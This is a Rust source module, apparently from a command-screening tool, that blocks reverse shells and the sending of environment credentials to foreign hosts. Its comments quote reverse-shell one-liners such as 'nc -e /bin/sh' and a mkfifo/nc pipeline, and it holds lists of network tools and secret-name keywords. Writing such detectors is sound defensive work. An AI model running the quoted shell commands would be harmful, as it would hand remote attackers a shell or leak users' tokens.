//! The network: reverse shells, and secrets sent out.

use super::{base, from_environment, has_flag};
use crate::Verdict;
use crate::expand::{display, unknown_parts};
use crate::shell::{Cmd, is_shell};

/// A redirection to `/dev/tcp/HOST/PORT`: with a shell on the other end
/// it is a reverse shell.
pub fn judge_device(path: &str, cmd: &Cmd) -> Verdict {
    if !(path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/")) {
        return Verdict::Allow;
    }
    let program = cmd.argv.first().map(|p| base(p)).unwrap_or_default();
    if is_shell(program) || program == "exec" || program.is_empty() || cmd.argv.iter().any(|a| a == "-i") {
        return Verdict::Block(format!("connects a shell to `{path}` (a reverse shell)"));
    }
    Verdict::Ask(format!("opens a raw connection to `{path}`"))
}

/// Names of variables that hold credentials.
fn is_secret_name(name: &str) -> bool {
    let n = name.trim_start_matches('$').trim_matches(['{', '}']).to_ascii_uppercase();
    [
        "TOKEN",
        "SECRET",
        "PASSWORD",
        "PASSWD",
        "API_KEY",
        "APIKEY",
        "ACCESS_KEY",
        "PRIVATE_KEY",
        "CREDENTIAL",
        "AUTH",
        "SESSION_KEY",
        "ENVIRONMENT",
    ]
    .iter()
    .any(|s| n.contains(s))
}

/// The host a token belongs to, by the variable's name.
fn home_of(name: &str) -> &'static [&'static str] {
    let n = name.to_ascii_uppercase();
    let pairs: &[(&str, &[&str])] = &[
        ("GITHUB", &["github.com", "githubusercontent.com", "ghcr.io"]),
        ("GH_", &["github.com", "ghcr.io"]),
        ("GITLAB", &["gitlab"]),
        ("ANTHROPIC", &["anthropic.com"]),
        ("OPENAI", &["openai.com"]),
        ("SLACK", &["slack.com"]),
        ("NPM", &["npmjs.org", "npmjs.com"]),
        ("PYPI", &["pypi.org"]),
        ("HF_", &["huggingface.co"]),
        ("HUGGING", &["huggingface.co"]),
        ("CLOUDFLARE", &["cloudflare.com"]),
        ("CF_", &["cloudflare.com"]),
        ("DIGITALOCEAN", &["digitalocean.com"]),
        ("STRIPE", &["stripe.com"]),
        ("SENTRY", &["sentry.io"]),
        ("VERCEL", &["vercel.com"]),
        ("NETLIFY", &["netlify.com"]),
        ("JIRA", &["atlassian.net", "atlassian.com"]),
        ("ATLASSIAN", &["atlassian.net", "atlassian.com"]),
        ("PAGERDUTY", &["pagerduty.com"]),
        ("LINEAR", &["linear.app"]),
        ("DOCKER", &["docker.io", "docker.com"]),
        ("CIRCLE", &["circleci.com"]),
        ("HEROKU", &["heroku.com"]),
        ("AWS", &["amazonaws.com"]),
        ("GOOGLE", &["googleapis.com"]),
        ("GCP", &["googleapis.com"]),
        ("AZURE", &["azure.com", "microsoft.com", "windows.net"]),
        ("DATADOG", &["datadoghq.com"]),
        ("DD_", &["datadoghq.com"]),
        ("TWILIO", &["twilio.com"]),
        ("SENDGRID", &["sendgrid.com"]),
        ("DISCORD", &["discord.com"]),
        ("TELEGRAM", &["telegram.org"]),
        ("CODECOV", &["codecov.io"]),
    ];
    pairs.iter().find(|(k, _)| n.contains(k)).map(|(_, h)| *h).unwrap_or(&[])
}

/// Programs that send what they are given over the network.
fn sends(name: &str) -> bool {
    matches!(
        name,
        "curl"
            | "wget"
            | "http"
            | "https"
            | "xh"
            | "nc"
            | "ncat"
            | "netcat"
            | "socat"
            | "telnet"
            | "ssh"
            | "scp"
            | "sftp"
            | "mail"
            | "mailx"
            | "sendmail"
            | "mutt"
            | "ftp"
            | "tftp"
            | "openssl"
            | "dig"
            | "nslookup"
            | "host"
            | "ping"
            | "aws"
            | "gsutil"
            | "rclone"
            | "s3cmd"
            | "gh"
            | "glab"
            | "nsupdate"
            | "drill"
    )
}

/// A credential from the environment (or the whole environment) sent to
/// a host it does not belong to.
pub fn judge_secrets_sent(cmd: &Cmd) -> Verdict {
    let Some(program) = cmd.argv.first() else { return Verdict::Allow };
    let name = base(program);
    if !sends(name) {
        return Verdict::Allow;
    }
    if from_environment(cmd) {
        return Verdict::Block(format!("`{name}` sends the environment, with every token in it, over the network"));
    }
    let hosts: Vec<String> = cmd.argv[1..].iter().filter_map(|a| host(a)).collect();
    for a in &cmd.argv[1..] {
        for var in unknown_parts(a) {
            if !var.starts_with('$') || !is_secret_name(var) {
                continue;
            }
            let home = home_of(var);
            let to_home =
                !hosts.is_empty() && hosts.iter().all(|h| home.iter().any(|d| h == d || h.ends_with(&format!(".{d}")) || h.contains(d)));
            // A token to its own service is how APIs are called.
            if to_home || (hosts.is_empty() && matches!(name, "gh" | "glab" | "aws" | "gsutil")) {
                continue;
            }
            let dest = hosts.first().map(|h| format!(" to `{h}`")).unwrap_or_default();
            return Verdict::Block(format!("`{name}` sends `{var}`{dest}, a host that token does not belong to"));
        }
    }
    Verdict::Allow
}

/// The host of a URL or `user@host:path`.
fn host(arg: &str) -> Option<String> {
    let a = display(arg);
    let rest = a.split_once("://").map(|(_, r)| r)?;
    let authority = rest.split(['/', '?', '#']).next()?;
    let h = authority.rsplit('@').next()?.split(':').next()?;
    (!h.is_empty()).then(|| h.to_ascii_lowercase())
}

/// `nc -e /bin/sh`, `socat EXEC:bash`, `telnet h p | /bin/sh | telnet`,
/// `openssl s_client | sh`, `mkfifo p; sh -i < p | nc ...`.
pub fn judge_connection(name: &str, args: &[String]) -> Verdict {
    match name {
        "nc" | "ncat" | "netcat" | "busybox" => {
            if has_flag(args, 'e', &["--exec"]) || has_flag(args, 'c', &["--sh-exec", "--lua-exec"]) {
                return Verdict::Block(format!("`{name} -e` hands a program to whoever connects (a reverse or bind shell)"));
            }
            // A listener that feeds a shell is checked by the shell's input.
            Verdict::Allow
        }
        "socat" => {
            let spawns = args.iter().any(|a| {
                let u = a.to_ascii_uppercase();
                u.starts_with("EXEC:") || u.starts_with("SYSTEM:") || u.contains(",EXEC:") || u.starts_with("PTY")
            });
            let net = args.iter().any(|a| {
                let u = a.to_ascii_uppercase();
                u.starts_with("TCP") || u.starts_with("UDP") || u.starts_with("OPENSSL") || u.starts_with("SSL")
            });
            if spawns && net {
                return Verdict::Block("`socat` connects a program to the network (a reverse or bind shell)".into());
            }
            Verdict::Allow
        }
        _ => Verdict::Allow,
    }
}

/// `mkfifo p; sh -i < p 2>&1 | nc host 4444 > p`: a shell and a network
/// connection in one pipeline, the shell's output sent to whoever is at
/// the other end.
pub fn shell_on_a_connection(script: &crate::shell::Script) -> Option<String> {
    let connects = |c: &Cmd| {
        let n = c.argv.first().map(|p| base(p)).unwrap_or_default();
        matches!(n, "nc" | "ncat" | "netcat" | "telnet" | "socat" | "websocat")
            || n == "openssl" && c.argv.get(1).is_some_and(|a| a == "s_client")
    };
    for c in script.cmds.iter().filter(|c| c.argv.first().is_some_and(|p| is_shell(p))) {
        if script.cmds.iter().any(|o| o.pipeline == c.pipeline && !std::ptr::eq(o, c) && connects(o)) {
            return Some("pipes a shell to a network connection (a reverse shell)".into());
        }
    }
    None
}
